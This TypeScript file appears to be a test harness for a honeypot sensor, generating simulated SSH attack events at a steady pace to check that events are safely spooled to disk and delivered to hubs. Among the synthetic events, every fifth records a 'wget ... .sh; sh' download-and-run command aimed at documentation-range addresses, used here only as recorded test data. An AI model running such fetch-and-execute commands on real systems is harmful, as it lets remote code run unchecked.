// A sensor without listeners, for the proofs of delivery: it records events at a pace, prints the number of each as
// soon as that is safe on the disk, and delivers them. Run as a process of its own, so that it can be killed.
import { createHash, randomBytes } from 'node:crypto'
import { join } from 'node:path'
import { logger, uuidv7 } from '@skep/vocabulary'
import { Link, loadMembership, Outbox, ownKey, Recorder, Spool, Uplink } from '@skep/sensor'

/** What a straw is made of. */
export interface Straw {
  readonly boot: string
  readonly spool: Spool
  readonly recorder: Recorder
  readonly uplink: Uplink
  readonly link: Link
  /** Records one event of a plausible mix: four of five are bulk; now and then there is an artifact. */
  readonly one: () => void
  readonly stop: (ms?: number) => Promise<void>
}

/** Opens a straw on the data folder of a sensor that has joined. */
export function openStraw(
  data: string,
  options: { capBytes?: number; segmentBytes?: number; hubs?: readonly string[]; artifacts?: boolean } = {},
): Straw {
  const membership = loadMembership(data)
  if (membership === undefined) throw new Error(`${data} has not joined`)
  const boot = uuidv7()
  const outbox = new Outbox(join(data, 'outbox'))
  let recorder: Recorder | undefined
  const spool = new Spool({
    folder: join(data, 'spool'),
    boot,
    ...options,
    beforeSync: () => outbox.sync(),
    onLoss: (loss) => recorder?.lost(loss),
    onClosed: ({ boot: of, clean }) => void recorder?.record({}, 'spool.closed', { of, clean }),
  })
  recorder = new Recorder(membership.sensor, boot, spool)
  const link = new Link(options.hubs ?? membership.hubs, {
    key: ownKey(data),
    certificate: membership.certificate,
    authority: membership.authority,
  })
  const uplink = new Uplink({ spool, outbox, link, log: logger('uplink', () => {}) })
  spool.begin()
  let count = 0
  const made = recorder
  return {
    boot,
    spool,
    recorder,
    uplink,
    link,
    one() {
      const n = count++
      const source = { ip: `203.0.113.${n % 250}`, port: 40_000 + (n % 20_000) }
      const who = { session: uuidv7(), service: 'ssh', transport: 'tcp' as const, source, target: { port: 22 } }
      if (n % 5 === 4)
        made.record(who, 'command.run', { line: `wget http://198.51.100.${n % 250}/${n}.sh; sh ${n}.sh` })
      else if (options.artifacts === true && n % 50 === 3) {
        const bytes = randomBytes(2000)
        const { sha256 } = outbox.keep(bytes)
        if (createHash('sha256').update(bytes).digest('hex') !== sha256) throw new Error('the outbox is broken')
        made.record(who, 'artifact.stored', { sha256, size: bytes.length })
      } else made.record(who, 'auth.attempt', { method: 'password', user: 'root', secret: `pw${n}`, accepted: false })
    },
    async stop(ms) {
      await spool.written()
      await uplink.stop(ms)
      await spool.close()
      outbox.close()
      link.close()
    },
  }
}

async function main(data: string, perSecond: number): Promise<void> {
  const straw = openStraw(data, { artifacts: true, segmentBytes: 64 * 1024 })
  straw.uplink.start()
  process.stdout.write(`boot ${straw.boot}\n`)
  let told = -1
  const started = performance.now()
  const stopping = new AbortController()
  process.on('SIGTERM', () => stopping.abort())
  for (let made = 0; !stopping.signal.aborted;) {
    while (made < ((performance.now() - started) / 1000) * perSecond) {
      straw.one()
      made++
    }
    const safe = straw.recorder.made - 1
    await straw.spool.written()
    if (safe > told) process.stdout.write(`safe ${straw.boot} ${(told = safe)}\n`)
    await new Promise((resolve) => setTimeout(resolve, 2))
  }
  // Told to stop: first all goes to the hub.
  await straw.spool.written()
  process.stdout.write(`safe ${straw.boot} ${straw.recorder.made - 1}\n`)
  for (let i = 0; i < 6000 && straw.spool.events > 0; i++) await new Promise((resolve) => setTimeout(resolve, 20))
  await straw.stop()
  process.exit(0)
}

const [, program, data, pace] = process.argv
if (program?.includes('straw-process') === true && data !== undefined) await main(data, Number(pace))
